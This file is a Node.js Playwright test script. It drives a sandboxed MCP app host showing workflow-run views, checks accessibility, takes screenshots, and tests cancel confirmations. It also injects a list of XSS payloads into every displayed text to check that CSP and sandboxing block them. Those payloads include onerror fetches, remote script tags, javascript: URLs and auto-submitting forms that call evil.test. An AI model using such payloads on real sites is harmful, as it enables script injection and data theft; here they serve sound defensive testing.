// Drives the host page in Chromium and prints a report as JSON.
//
//   node browser.mjs MCP_URL PICTURES_FOLDER HOSTILE_TEXTS.json
import { createServer } from "node:http";
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { crc32, deflateSync } from "node:zlib";
import { build } from "esbuild";
import { chromium } from "playwright-core";

const [mcp, pictures, corpusFile] = process.argv.slice(2);
// What a browser would run, load or follow, besides the texts that are meant for models.
const MARKUP = [
  '<img src=x onerror="fetch(\'http://evil.test/run?of=an+error\')">', '<svg onload="parent.postMessage({a:1},\'*\')"><script href="http://evil.test/s.js"/></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="http://evil.test/o"></object>', '<a href="javascript:alert(1)" autofocus onfocus="alert(2)">x</a>',
  '"><script src="http://evil.test/x.js"></script>', '<meta http-equiv="refresh" content="0;url=http://evil.test/gone"><base href="http://evil.test/">',
  '<style>@import "http://evil.test/c.css"; body{background:url(http://evil.test/b.png)}</style>', '<form action="http://evil.test/f"><input autofocus onfocus="this.form.submit()"></form>',
  'javascript:alert(document.domain)', 'https://dashboard.extend.ai.evil.test/', "});alert(1);({", "${alert(1)}", "__proto__", "url(http://evil.test/v.png)",
].map((text) => ({ name: text.slice(0, 40), text }));
const corpus = [...JSON.parse(readFileSync(corpusFile)), ...MARKUP];
const axeSource = readFileSync(new URL("node_modules/axe-core/axe.min.js", import.meta.url), "utf8");
mkdirSync(pictures, { recursive: true });
const report = { axe: {}, hostile: {}, errors: [] };

// --- The host's pages: host and sandbox are two sites, and the canary counts what gets out ---

const bundle = (await build({ entryPoints: [new URL("host.js", import.meta.url).pathname], bundle: true, format: "esm", write: false })).outputFiles[0].text;
const CSP = "default-src 'none'; script-src 'self' 'unsafe-inline'; style-src 'self' 'unsafe-inline'; img-src 'self' data:; media-src 'self' data:; connect-src 'none'; frame-src 'none'; object-src 'none'; base-uri 'none'";
const PROXY = `<!doctype html><meta charset=utf-8><style>html,body,iframe{margin:0;border:0;width:100%;height:100%;display:block}</style><script>
const inner = document.createElement("iframe");
inner.setAttribute("sandbox", "allow-scripts allow-same-origin allow-modals allow-popups allow-forms");
inner.title = "view";
addEventListener("message", ({ source, data }) => {
  if (source === inner.contentWindow) return parent.postMessage(data, "*");
  if (source !== parent) return;
  if (data.method === "ui/notifications/sandbox-resource-ready") {
    const page = inner.contentDocument; page.open(); page.write(data.params.html); page.close();
  } else inner.contentWindow.postMessage(data, "*");
});
document.documentElement.append(inner);
parent.postMessage({ jsonrpc: "2.0", method: "ui/notifications/sandbox-proxy-ready", params: {} }, "*");
</script>`;

const serve = (answer) => new Promise((done) => {
  const server = createServer(answer).listen(0, "127.0.0.1", () => done(server));
});
let hits = 0;
const canary = await serve((_, response) => { hits += 1; response.end(); });
const sandbox = await serve((_, response) => response.setHeader("content-type", "text/html").setHeader("content-security-policy", CSP).end(PROXY));
const settings = { mcp, sandbox: `http://127.0.0.1:${sandbox.address().port}/` };
const host = await serve((request, response) => {
  if (request.url === "/host.js") response.setHeader("content-type", "text/javascript").end(bundle);
  else response.setHeader("content-type", "text/html").end(`<!doctype html><html lang=en><title>Host</title><body style="margin:24px"><script id=settings type=application/json>${JSON.stringify(settings)}</script><script type=module src=/host.js></script>`);
});

const browser = await chromium.launch({
  executablePath: process.env.CHROMIUM || "/usr/bin/chromium",
  headless: true,
  args: ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync",
    // Nothing but this machine resolves, and what a hostile text names lands on the canary.
    `--host-resolver-rules=MAP *.test 127.0.0.1:${canary.address().port},MAP * ~NOTFOUND,EXCLUDE 127.0.0.1,EXCLUDE localhost`],
});
const context = await browser.newContext({ viewport: { width: 800, height: 2000 }, deviceScaleFactor: 1.25, reducedMotion: "reduce" });
const page = await context.newPage();
page.on("pageerror", (error) => report.errors.push(`${error}`));
await page.goto(`http://localhost:${host.address().port}/`);
await page.waitForFunction("window.ready");

const inner = () => page.mainFrame().childFrames()[0].childFrames()[0];
const mount = (given) => page.evaluate((options) => window.mount(options), given);
const text = () => inner().evaluate(() => document.body.innerText);
const shows = (wanted, seconds = 20) => inner().waitForFunction((each) => document.body.innerText.includes(each), wanted, { timeout: seconds * 1000 });
const settled = async () => { await inner().waitForFunction(() => !document.querySelector("main[aria-busy]") && !/Reading…/.test(document.body.innerText)); };
const facts = async (tool, args) => (await page.evaluate(([name, given]) => window.callTool(name, given), [tool, args])).structuredContent;

// A flat picture needs few colors: with a palette it takes a quarter of the bytes.
async function picture(name, most) {
  await page.waitForTimeout(150);
  const { x, y, width: across, height: down } = await page.locator("iframe").boundingBox();
  const shot = await page.screenshot({ clip: { x, y, width: across, height: Math.min(down, most ?? down) } });
  // The colors that the style sheet names are kept as they are: few pixels of thin letters have them.
  const own = await inner().evaluate(() => ["text", "soft", "line", "mark", "info", "danger", "success", "warning"].map((name) => {
    const probe = document.body.appendChild(document.createElement("i"));
    probe.style.color = `var(--${name})`;
    const [red, green, blue] = getComputedStyle(probe).color.match(/\d+/g).map(Number);
    probe.remove();
    return (red << 16) | (green << 8) | blue;
  }));
  const { width, height, palette, pixels } = await page.evaluate(async ([encoded, own]) => {
    const image = await createImageBitmap(await (await fetch(`data:image/png;base64,${encoded}`)).blob());
    const canvas = new OffscreenCanvas(image.width, image.height).getContext("2d");
    canvas.drawImage(image, 0, 0);
    const { data } = canvas.getImageData(0, 0, image.width, image.height);
    const color = (at) => (data[at] << 16) | (data[at + 1] << 8) | data[at + 2];
    // Areas keep their colors; of those at the edges of letters a few are enough.
    const counts = new Map();
    const areas = new Map();
    const count = (map, each) => map.set(each, (map.get(each) ?? 0) + 1);
    for (let at = 0; at < data.length; at += 4) {
      count(counts, color(at));
      if (at > 8 && color(at) === color(at - 4) && color(at) === color(at - 8)) count(areas, color(at));
    }
    const palette = own.filter((each) => counts.has(each));
    const distance = (one, other) => [16, 8, 0].reduce((sum, shift) => sum + (((one >> shift) & 255) - ((other >> shift) & 255)) ** 2, 0);
    for (const [map, most, apart] of [[areas, 30, 12], [counts, 40, 600]]) {
      for (const [each] of [...map].sort((one, other) => other[1] - one[1])) {
        if (palette.length < most && palette.every((known) => distance(known, each) > apart)) palette.push(each);
      }
    }
    const nearest = new Map([...counts.keys()].map((each) => [each, palette.reduce((best, known, index) => (distance(known, each) < distance(palette[best], each) ? index : best), 0)]));
    const pixels = new Uint8Array(data.length / 4);
    for (let at = 0; at < data.length; at += 4) pixels[at / 4] = nearest.get(color(at));
    let binary = "";
    for (let at = 0; at < pixels.length; at += 32768) binary += String.fromCharCode(...pixels.subarray(at, at + 32768));
    return { width: image.width, height: image.height, palette, pixels: btoa(binary) };
  }, [shot.toString("base64"), own]);
  const indexed = Buffer.from(pixels, "base64");
  const rows = Buffer.concat(Array.from({ length: height }, (_, row) => Buffer.concat([Buffer.from([0]), indexed.subarray(row * width, (row + 1) * width)])));
  const chunk = (type, body) => {
    const named = Buffer.concat([Buffer.from(type), body]);
    const frame = Buffer.alloc(8);
    frame.writeUInt32BE(body.length, 0);
    frame.writeUInt32BE(crc32(named), 4);
    return Buffer.concat([frame.subarray(0, 4), named, frame.subarray(4)]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 3, 0, 0, 0], 8);
  writeFileSync(`${pictures}/${name}.png`, Buffer.concat([Buffer.from([137, 80, 78, 71, 13, 10, 26, 10]), chunk("IHDR", header),
    chunk("PLTE", Buffer.from(palette.flatMap((each) => [each >> 16, (each >> 8) & 255, each & 255]))), chunk("IDAT", deflateSync(rows, { level: 9 })), chunk("IEND", Buffer.alloc(0))]));
}

async function axe(name) {
  const frame = inner();
  await frame.evaluate(`${axeSource};undefined`);
  const found = await frame.evaluate(() => window.axe.run(document));
  report.axe[name] = found.violations.map(({ id, impact, nodes }) => ({ id, impact, nodes: nodes.slice(0, 3).map(({ html, failureSummary }) => `${html} ${failureSummary}`) }));
}

// Sideways scrolling would hide a part of the view.
const overflow = () => inner().evaluate(() => document.documentElement.scrollWidth - innerWidth);

// --- 1. Each view, from a real answer, in three forms ---

const runs = async (status) => (await facts("list_runs", { status, page_size: 20 })).runs.map((run) => run.run_id);
const [failed] = await runs("FAILED");
const moving = (await runs("PROCESSING")).at(-1);
const stopped = await runs("FAILED");
const VIEWS = {
  run: { tool: "get_workflow_run", args: { run_id: failed } },
  board: { tool: "summarize_runs", args: { created_since: "7d" } },
  list: { tool: "list_runs", args: { status: "FAILED" } },
  review: { tool: "review_queue", args: { limit: 2 } },
  plan: { tool: "rerun_workflow_runs", args: { run_ids: stopped.slice(0, 2) }, asks: false },
};
report.sizes = {};
report.overflow = {};
const INTER = { "--font-sans": '"Inter", system-ui, sans-serif' };
for (const [name, view] of Object.entries(VIEWS)) {
  for (const [form, more] of Object.entries({ light: {}, dark: { theme: "dark" }, narrow: { width: 320 } })) {
    await mount({ ...view, ...more, variables: INTER });
    await settled();
    await axe(`${name} ${form}`);
    report.overflow[`${name} ${form}`] = await overflow();
    // A list goes on below its picture.
    if (name !== "list") await picture(`${name}-${form}`, name !== "review" ? undefined : form === "narrow" ? 720 : 500);
  }
  report.sizes[name] = await inner().evaluate(() => [...document.scripts].reduce((sum, each) => sum + each.text.length, 0));
}

// --- The README's picture: a person asks what hangs, looks at the run, and stops it ---

{
  const stuck = await facts("list_runs", { stuck: true });
  const { run_id: run, file, why } = stuck.runs.find((each) => each.status === "PROCESSING");
  const shoot = async (name) => {
    await mount({ tool: "get_workflow_run", args: { run_id: run }, width: 340, variables: INTER });
    await settled();
    // Large letters: the picture is read at half its size.
    await inner().evaluate(() => { document.documentElement.style.zoom = 1.25; });
    await picture(name, 700);
  };
  await shoot("side-running");
  const before = await page.evaluate(() => window.seen.asked.length);
  const cancelled = await facts("cancel_workflow_run", { run_id: run, reason: "it hangs" });
  const question = await page.evaluate((count) => window.seen.asked[count], before);
  await shoot("side-cancelled");
  writeFileSync(`${pictures}/story.json`, JSON.stringify({ file, why, question, message: cancelled.message }));
}

// --- 2. From the board to a run, by keyboard; cancel it, with the person's yes in the host ---

const press = async (selector) => { await inner().focus(selector); await page.keyboard.press("Enter"); };
await mount(VIEWS.board);
await settled();
await press("#by-failure_reason");
await inner().waitForSelector("#group-0");
await inner().waitForFunction(() => document.querySelector("#by-failure_reason").getAttribute("aria-pressed") === "true");
report.cause = await inner().locator("#group-0").innerText();
await press("#group-0");
await shows("Status: FAILED");
report.causeList = await text();
await press("#back");
await inner().waitForSelector("#status-PROCESSING");
await press("#status-PROCESSING");
await shows("Back").catch(() => {});
await inner().waitForSelector(`#run-${moving}`);
await press(`#run-${moving}`);
await inner().waitForSelector("#cancel");
await axe("run in the board");
report.before = await text();
await press("#cancel");
await shows("Cancelled", 40);
report.cancelled = await text();
report.asked = await page.evaluate(() => window.seen.asked);
report.status = (await facts("get_workflow_run", { run_id: moving })).status;
report.tools = await page.evaluate(() => window.seen.tools);
await press("#back");
await inner().waitForSelector(".list");
report.back = await text();

// A host that cannot ask: the plan is shown in the view, and a second click brings the token.
const next = (await runs("PROCESSING")).at(-1) ?? (await runs("PENDING"))[0];
await mount({ tool: "get_workflow_run", args: { run_id: next }, asks: false });
await settled();
await press("#cancel");
await inner().waitForSelector("#yes");
await axe("confirmation");
await press("#yes");
await shows("Cancelled", 40);
report.confirmedInView = (await facts("get_workflow_run", { run_id: next })).status;

// Finished: no cancel. Links: only the dashboard's, and through the host.
await mount(VIEWS.run);
await settled();
report.cancelOfFinished = await inner().$("#cancel") !== null;
await mount(VIEWS.review);
await settled();
const called = await page.evaluate(() => window.seen.tools.length);
await inner().getByRole("button", { name: "Review in dashboard" }).first().click();
await page.waitForFunction(() => window.seen.links.length > 0);
report.links = await page.evaluate(() => window.seen.links);
report.reviewCalls = (await page.evaluate(() => window.seen.tools.length)) - called;

// --- 3. The plan, run by run, while the host asks; then what became of each ---

await page.evaluate(() => { window.person.hold = true; });
const asked = report.asked.length;
await mount({ tool: "cancel_runs", args: { status: "PENDING", reason: "duplicate upload" } });
await page.waitForFunction((count) => window.seen.asked.length > count, asked);
await shows("as read just now");
report.planned = await text();
report.question = (await page.evaluate(() => window.seen.asked)).at(-1);
await page.evaluate(() => { window.person.hold = false; window.person.release(); });
report.done = (await page.evaluate(() => window.answered())).structuredContent;
await shows("Done");
report.planDone = await text();
await page.evaluate(() => window.retheme("dark"));
await inner().waitForFunction(() => getComputedStyle(document.documentElement).colorScheme === "dark");
report.scheme = await inner().evaluate(() => getComputedStyle(document.documentElement).colorScheme);

// --- 4. Hostile texts in place of every text ---

const CONTROL = `<!doctype html><body><script>
let id = 0;
addEventListener("message", ({ data }) => {
  if (data.id === 1) parent.postMessage({ jsonrpc: "2.0", method: "ui/notifications/initialized", params: {} }, "*");
  if (data.method === "ui/notifications/tool-result") document.body.innerHTML = JSON.stringify(data.params.structuredContent, (_, each) => each).replaceAll('\\\\"', '"');
});
parent.postMessage({ jsonrpc: "2.0", id: 1, method: "ui/initialize", params: { protocolVersion: "2026-01-26", appInfo: { name: "control", version: "1" }, appCapabilities: {} } }, "*");
</script>`;

let counted;
page.on("console", (message) => { if (counted && /Content Security Policy|TrustedHTML/.test(message.text())) counted.blocked.push(message.text().slice(0, 200)); });
page.on("request", (request) => { if (counted && request.frame() !== page.mainFrame() && request.url() !== settings.sandbox) counted.requests.push(request.url()); });
page.on("dialog", (dialog) => { counted?.dialogs.push(dialog.message()); dialog.dismiss().catch(() => {}); });
context.on("page", (opened) => { counted?.windows.push(opened.url()); opened.close().catch(() => {}); });
await page.exposeFunction("attached", async () => {
  if (!counted) return;
  // Host and sandbox are two sites, so the frame has its own target; this sees it and the view in it.
  const session = await context.newCDPSession(page.mainFrame().childFrames()[0]);
  const mine = counted;
  // The driver's own scripts count too: only those of a length that the plain answer did not bring are the view's.
  session.on("Debugger.scriptParsed", ({ url, length }) => { if (length < 100_000) mine.scripts.push(`${url.replace(/^.*\/\/[^/]*/, "")}#${length}`); });
  session.on("Network.requestWillBeSent", ({ request }) => mine.requests.push(request.url));
  session.on("Page.frameRequestedNavigation", ({ url }) => mine.navigations.push(url));
  session.on("Page.frameNavigated", ({ frame }) => mine.navigations.push(frame.url));
  session.on("Page.javascriptDialogOpening", ({ message }) => mine.dialogs.push(message));
  session.on("Page.windowOpen", ({ url }) => mine.windows.push(url));
  await Promise.all(["Debugger.enable", "Network.enable", "Page.enable"].map((each) => session.send(each)));
  mine.session = session;
});

// Show an answer with its own texts, then with each hostile one in their place; return what each of these set off.
async function provoke(given, texts, pause) {
  counted = { scripts: [], requests: [], navigations: [], dialogs: [], windows: [], blocked: [] };
  const idle = async (word = "") => {
    const shown = given.html ? true : await inner().waitForFunction((each) => document.body.innerText.includes(each), word, { timeout: 5000 }).catch(() => false);
    if (!given.html) await settled();
    await page.waitForTimeout(pause);
    return shown;
  };
  await mount(given);
  await idle();
  await page.evaluate(() => window.feed());
  await idle();
  const plain = { ...Object.fromEntries(Object.entries(counted).filter(([key]) => !["session", "scripts"].includes(key)).map(([key, each]) => [key, each.length])), };
  const own = new Set(counted.scripts);
  const faults = [];
  const before = hits;
  for (const item of texts) {
    for (const key of ["scripts", "requests", "navigations", "dialogs", "windows", "blocked"]) counted[key].length = 0;
    const hitsBefore = hits;
    await page.evaluate((each) => window.feed(each), item.text);
    const shown = await idle(item.text.match(/\w{2,}/)[0]);
    const seen = { ...counted, scripts: counted.scripts.filter((each) => !own.has(each)), hits: hits - hitsBefore };
    const extra = Object.entries(seen).filter(([key, each]) => key !== "session" && (key === "hits" ? each : each.length)).map(([key, each]) => [key, key === "hits" ? each : each.slice(0, 5)]);
    if (extra.length || !shown) faults.push({ item: item.name, shown: !!shown, ...Object.fromEntries(extra) });
  }
  await counted.session.detach().catch(() => {});
  counted = null;
  return { plain, faults, texts: texts.length, hits: hits - before };
}

// The answers are asked for once: only the texts in them differ.
const waitingForReview = (await runs("NEEDS_REVIEW"))[0];
const answers = {};
for (const [name, view] of Object.entries({ ...VIEWS, waiting: { tool: "get_workflow_run", args: { run_id: waitingForReview } } })) {
  answers[name] = { ...view, answer: await page.evaluate(([tool, args, asks]) => window.callTool(tool, args, asks), [view.tool, view.args, view.asks ?? true]) };
}
for (const [name, given] of Object.entries(answers)) report.hostile[name] = await provoke(given, corpus, 10);
const errors = [...report.errors];
report.control = await provoke({ ...answers.run, html: CONTROL }, MARKUP, 300);
// A control that runs what it is given also fails at it.
report.errors = errors;
report.seconds = Math.round(performance.now() / 1000);

await browser.close();
for (const server of [canary, sandbox, host]) server.close();
console.log(JSON.stringify(report));
